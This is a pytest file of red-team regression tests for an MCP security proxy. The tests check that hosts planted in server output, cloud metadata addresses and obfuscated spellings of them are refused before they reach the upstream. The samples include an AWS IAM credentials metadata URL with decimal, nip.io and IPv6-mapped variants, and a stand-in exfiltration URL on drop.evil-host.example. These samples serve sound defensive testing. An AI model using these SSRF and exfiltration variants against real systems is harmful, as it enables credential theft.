"""Red-team regressions for the two ways a resource read is spared what a fetch gets, through
the real ``cordon run`` in front of a raw upstream that logs every line it receives and
answers each method with what the test scripted:

* a URI read exactly as the server listed it (``resources/list``) is the server's own,
  decided by secrets and dlp only (``SessionWork.decide_request``);
* a ``resources/read`` result's ``contents[].uri`` equal to the URI read is that request's
  echo, not output (``SessionWork.scan_other``).

The attacker's goal: a host planted in output, a metadata address or a credential reaching
the upstream in an agent-chosen value, or output that should taint a host not tainting it.
Each test asserts on what the upstream received.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Harness
from tests.e2e._recorder import Recorded as Proxy
from tests.e2e._recorder import denied as _denied

pytestmark = [pytest.mark.e2e]

PLANTED = "drop.evil-host.example"  # a host only server output names


def _listing(*uris: str) -> dict[str, Any]:
    return {"resources": [{"uri": u, "name": f"r{i}"} for i, u in enumerate(uris)]}


@pytest.mark.requirement("inv:everything-untrusted")
def test_a_listed_uri_read_in_another_spelling_is_a_fetch(harness: Harness) -> None:
    """Only the exact string listed is the server's own: the same URL in another case, with
    white space a server trims, a fragment or a percent-encoded dot is decided as a fetch
    (its host was planted by the listing itself, so taint refuses it)."""
    listed = f"https://{PLANTED}/doc"
    p = Proxy(harness, {"resources/list": _listing(listed)})
    assert "result" in p.rpc(3, "resources/list", {})
    variants = [
        f"HTTPS://{PLANTED}/doc",
        f"https://{PLANTED.upper()}/doc",
        f" {listed}",
        f"{listed}\u00a0",
        f"{listed}#x",
        f"{listed}?q=1",
        f"https://{PLANTED.replace('.', '%2E', 1)}/doc",
        f"https://{PLANTED}./doc",
    ]
    for i, uri in enumerate(variants, 10):
        _denied(p.read(i, uri), "taint.seen_in_output")
    assert "result" in p.read(30, listed)
    p.close()
    got = p.received_ids()
    assert got.isdisjoint(range(10, 10 + len(variants))) and 30 in got


@pytest.mark.requirement("inv:everything-untrusted")
def test_a_listing_outside_a_list_result_is_not_the_servers_own(harness: Harness) -> None:
    """URIs are remembered from a ``resources/list`` result only: not from a
    ``resources/templates/list`` result, a tool result or a resource's contents shaped like a
    listing, nor from a ``notifications/resources/list_changed`` or an unsolicited response
    carrying one."""
    uris = [f"https://{PLANTED}/{n}" for n in ("tpl", "tool", "read", "note", "unsol")]
    note = {
        "jsonrpc": "2.0",
        "method": "notifications/resources/list_changed",
        "params": _listing(uris[3]),
    }
    unsolicited = {"jsonrpc": "2.0", "id": 77, "result": _listing(uris[4])}
    script = {
        "resources/templates/list": {
            "resourceTemplates": [{"uriTemplate": uris[0], "name": "t"}],
            "resources": _listing(uris[0])["resources"],
        },
        "tools/call": {"content": [{"type": "text", "text": "x"}], **_listing(uris[1])},
        "read": {
            "mem://doc": {"contents": [{"uri": "mem://doc", "text": "x"}], **_listing(uris[2])}
        },
        "notify": {"prompts/list": [note, unsolicited]},
    }
    p = Proxy(harness, script)
    assert "result" in p.rpc(3, "resources/templates/list", {})
    assert "result" in p.rpc(4, "tools/call", {"name": "read_doc", "arguments": {}})
    assert "result" in p.read(5, "mem://doc")
    assert "result" in p.rpc(6, "prompts/list", {})
    for i, uri in enumerate(uris, 10):
        _denied(p.read(i, uri), "taint.seen_in_output")
    p.close()
    assert p.received_ids().isdisjoint(range(10, 15))


@pytest.mark.requirement("inv:everything-untrusted")
def test_a_read_results_other_fields_still_taint(harness: Harness) -> None:
    """Only ``contents[].uri`` equal to the URI read is left out of what is recorded: a host
    the same contents carry in its text, name, title, mimeType or ``_meta``, a URI nested
    deeper, or a ``uri`` in another spelling of the request's, is output and taints."""
    hosts = [f"h{i}.{PLANTED}" for i in range(7)]
    item = {
        "uri": "mem://doc",
        "text": f"see https://{hosts[0]}/x",
        "name": f"https://{hosts[1]}/",
        "title": f"https://{hosts[2]}/",
        "mimeType": f"text/x; url=https://{hosts[3]}/",
        "_meta": {"uri": f"https://{hosts[4]}/", "resource": {"uri": f"https://{hosts[5]}/"}},
    }
    read = {"contents": [item, {"uri": f"mem://doc?u=https://{hosts[6]}/", "text": "y"}]}
    p = Proxy(harness, {"read": {"mem://doc": read}})
    assert "result" in p.read(3, "mem://doc")
    for i, host in enumerate(hosts, 10):
        _denied(p.read(i, f"https://{host}/c"), "taint.seen_in_output")
    p.close()
    assert p.received_ids().isdisjoint(range(10, 17))


@pytest.mark.requirement("inv:everything-untrusted")
def test_the_echo_of_one_read_does_not_spare_another_uri(harness: Harness) -> None:
    """A result's ``contents[].uri`` is left out only when it equals the URI of the very
    request answered: an echo-shaped item naming another URI (one the agent never read)
    taints, and the listed read's echo does not untaint the host its listing planted."""
    listed = f"https://{PLANTED}/doc"
    other = f"https://other.{PLANTED}/x"
    read = {"contents": [{"uri": listed, "text": "ok"}, {"uri": other, "text": "b"}]}
    p = Proxy(harness, {"resources/list": _listing(listed), "read": {listed: read}})
    assert "result" in p.rpc(3, "resources/list", {})
    assert "result" in p.read(4, listed)
    _denied(p.read(10, other), "taint.seen_in_output")
    _denied(p.read(11, f"https://{PLANTED}/other"), "taint.seen_in_output")
    p.close()
    assert p.received_ids().isdisjoint({10, 11})


@pytest.mark.requirement("inv:everything-untrusted")
def test_a_listed_metadata_address_is_still_refused(harness: Harness) -> None:
    """No server's own resource lives at a cloud metadata endpoint: a listing naming one
    relays someone else's URL (a crawled page, a feed item), and a read of it has the server
    fetch the instance's credentials into the agent's context. Listed or not, directly or
    nested in a URI of the server's own scheme, it is refused as a fetch of it is."""
    meta = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    uris = [
        meta,
        f"proxy://page?url={meta}",
        "proxy://page?url=http%3A%2F%2F169.254.169.254%2Flatest%2F",
        "http://[fd00:ec2::254]/latest/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://2852039166/latest/",
        "http://169.254.169.254.nip.io/latest/",
        "ftp://[::ffff:169.254.169.254]/",
    ]
    p = Proxy(harness, {"resources/list": _listing(*uris, "http://127.0.0.1:8080/page")})
    assert "result" in p.rpc(3, "resources/list", {})
    for i, uri in enumerate(uris, 10):
        _denied(p.read(i, uri), "egress.metadata")
    _denied(p.rpc(20, "resources/subscribe", {"uri": meta}), "egress.metadata")
    listen = {"notifications": {"resourceSubscriptions": [meta]}}
    _denied(p.rpc(21, "subscriptions/listen", listen), "egress.metadata")
    # a local service's page the server lists is still its own (not a fetch)
    assert "result" in p.read(30, "http://127.0.0.1:8080/page")
    p.close()
    got = p.received_ids()
    assert got.isdisjoint([*range(10, 10 + len(uris)), 20, 21]) and 30 in got


@pytest.mark.requirement("inv:everything-untrusted")
def test_a_prompt_argument_naming_a_planted_host_or_metadata_is_refused(harness: Harness) -> None:
    """The reference Fetch MCP server (modelcontextprotocol/servers, src/fetch) lists a
    prompt ``fetch`` whose ``url`` argument it fetches: a prompt argument naming a host
    planted in output, or a metadata endpoint, is a fetch as a resource URI naming one is,
    and a fetched page could then be listed back as the server's own resource."""
    plant = {"content": [{"type": "text", "text": f"Mirror: https://{PLANTED}/c"}]}
    p = Proxy(harness, {"tools/call": plant})
    assert "result" in p.rpc(3, "tools/call", {"name": "read_doc", "arguments": {}})
    fetch = {"name": "fetch", "arguments": {"url": f"https://{PLANTED}/c?d=row-1"}}
    _denied(p.rpc(10, "prompts/get", fetch), "taint.seen_in_output")
    meta = {"name": "fetch", "arguments": {"url": "http://169.254.169.254/latest/meta-data/"}}
    _denied(p.rpc(11, "prompts/get", meta), "egress.metadata")
    p.close()
    assert p.received_ids().isdisjoint({10, 11})
